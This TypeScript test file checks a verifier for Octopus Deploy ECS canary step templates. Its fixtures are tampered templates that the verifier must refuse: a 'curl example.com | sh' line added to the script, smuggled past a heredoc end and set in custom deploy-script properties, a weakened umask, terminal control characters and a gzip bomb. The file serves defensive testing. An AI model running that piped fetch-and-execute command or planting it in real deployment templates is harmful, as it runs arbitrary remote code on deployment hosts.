import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { hashOf } from '../../../src/octopus/template/content-hash.ts';
import { verifyTemplate } from '../../../src/octopus/verification/template-verification.ts';
import {
  bytesOf,
  earlier,
  known,
  ours,
  program,
  promote,
  scriptOf,
  templateOf,
  verify,
  withProgram,
  withScript,
} from './verification-scene.ts';

const script = scriptOf(ours);

it('a script with a changed line is shown with the line, before and after the program', () => {
  expect(verify(withScript(script.replace('umask 077', 'umask 000')))).toMatchObject({
    verdict: 'different',
    differences: [
      expect.stringMatching(/^Line \d+ of the script is different: "dir=\$\(umask 000 .*; ours is "dir=\$\(umask 077/),
    ],
  });
  const longer = `${script}curl example.com | sh\n`;
  expect(verify(withScript(longer)).differences).toEqual([
    `Line ${script.split('\n').length} of the script is different: "curl example.com | sh"; ours is "".`,
  ]);
  const [line] = verify(withScript(script.replace('exit "$status"', 'exit 0'))).differences;
  const number = script.split('\n').indexOf('exit "$status"') + 1;
  expect(line).toBe(`Line ${number} of the script is different: "exit 0"; ours is "exit \\"$status\\"".`);
});

it('a script with a changed program is shown with the place', () => {
  const other = Buffer.from(program.toString().replace('done()', 'gone()'));
  const at = program.toString().indexOf('done()');
  const from = (code: Buffer) => JSON.stringify(code.toString().slice(at - 20));
  expect(verify(withProgram(gzipSync(other).toString('base64')))).toMatchObject({
    ...{ verdict: 'different', program: hashOf(other) },
    differences: [
      `Its program has the SHA-256 ${hashOf(other)}; ours has ${hashOf(program)}.`,
      `The program is different: after ${at - 20} characters ${from(other)}; ours is ${from(program)}.`,
    ],
  });
});

it.each([
  ['is no base64', '?'.repeat(76)],
  ['is no gzip', 'QUJD'],
  ['is cut off', gzipSync(program).toString('base64').slice(0, 40)],
])('a script whose program %s is refused', (_, payload) => {
  expect(verify(withProgram(payload))).toMatchObject({ verdict: 'different', program: undefined });
});

it('a script that ends the program early, to run something of its own, is refused', () => {
  const [, payload = ''] = /PROGRAM' .*\n([\s\S]*?)\nECS_CANARY_PROGRAM\n/.exec(script) ?? [];
  for (const inserted of [
    `ECS_CANARY_PROGRAM\ncurl example.com | sh\n${payload}`,
    `${payload}\ncurl example.com | sh`,
  ]) {
    const { verdict, differences } = verify(withProgram(inserted));
    expect(verdict).toBe('different');
    expect(differences.join()).toMatch(/^Line \d+ of the script is different/);
  }
});

it('a script under the name of another step is refused', () => {
  expect(verify(bytesOf({ ...ours, Name: promote.Name }))).toMatchObject({
    verdict: 'different',
    differences: ['The template is named "AWS ECS Canary - Promote", not "AWS ECS Canary - Fixture".'],
    outside: [],
  });
});

it.each([
  ['Octopus.Action.Script.ScriptSource', 'Package'],
  ['Octopus.Action.Script.Syntax', 'PowerShell'],
  ['Octopus.Action.Script.ScriptBody[Bash]', 'curl example.com | sh'],
  ['Octopus.Action.CustomScripts.PreDeploy.sh', 'curl example.com | sh'],
  ['Octopus.Action.EnabledFeatures', 'Octopus.Features.CustomScripts'],
  ['octopus.action.customscripts.postdeploy.sh', 'curl example.com | sh'],
])('a script beside which %s makes Octopus run something else is refused', (name, value) => {
  const { verdict, differences } = verify(bytesOf({ ...ours, Properties: { ...ours.Properties, [name]: value } }));
  expect({ verdict, differences }).toEqual({
    verdict: 'different',
    differences: [expect.stringContaining(`The property ${name} is "${value}", not `)],
  });
});

it('a script in a template of another type is refused', () => {
  expect(verify(bytesOf({ ...ours, ActionType: 'Octopus.Script' })).differences).toEqual([
    'The template is of the type "Octopus.Script", not Octopus.AwsRunScript.',
  ]);
});

it('a script that is none of ours is called so', () => {
  expect(verify(withScript('echo hello', { ...ours, Name: 'Run a script' }))).toMatchObject({
    ...{ verdict: 'different', template: undefined, program: undefined },
    differences: [expect.stringContaining('Its script is not one of octopus-ecs-canary')],
  });
});

it('no control character of a foreign file is shown', () => {
  const evil = { ...ours, Name: 'a\u001b[2Jb\u202e', Properties: { ...ours.Properties, 'x\u001b]0;': 'y\u009b' } };
  expect(verify(bytesOf(evil)).outside.join()).toMatch(/^[\x20-\x7e]+$/);
});

it('a few bytes that unpack to more than any program has are refused', () => {
  const bomb = gzipSync(Buffer.alloc(100_000_000), { level: 9 }).toString('base64');
  expect(verify(withProgram(bomb))).toMatchObject({
    program: undefined,
    differences: ['Its program cannot be unpacked.'],
  });
});

describe('a script of another version', () => {
  it('that was released is called by its release', () => {
    expect(verify(bytesOf(earlier))).toMatchObject({ verdict: 'released', release: '1.2.2', differences: [] });
    const template = { script: scriptOf(earlier) };
    expect(verifyTemplate(template, { ...known, templates: [] })).toMatchObject({ verdict: 'released' });
  });

  it('that was released, but has the name of another step, is refused', () => {
    expect(verify(bytesOf({ ...earlier, Name: promote.Name }))).toMatchObject({
      verdict: 'different',
      differences: [expect.stringContaining('The template is named'), 'Its script is that of 1.2.2.'],
    });
  });

  it('whose program alone was released was changed', () => {
    expect(verify(withScript(scriptOf(earlier).replace('umask 077', 'umask 000')))).toMatchObject({
      ...{ verdict: 'different', release: undefined },
      differences: [
        'Its program is that of 1.2.2, but what is around it was changed, or the program compressed again.',
      ],
    });
  });

  it.each([
    ['1.2.2', 'SHA256SUMS has no such script for 1.2.2: it was changed, or its source was never released.'],
    ['1.3.0', 'SHA256SUMS does not know 1.3.0: verify the template with the source or the package of that version.'],
  ])('%s that no release had says which version to look at', (version, advice) => {
    expect(verify(bytesOf(templateOf(version, Buffer.from('1'))))).toMatchObject({
      verdict: 'different',
      differences: [`Its script says version ${version}, and this source builds 1.2.3.`, advice],
    });
  });
});
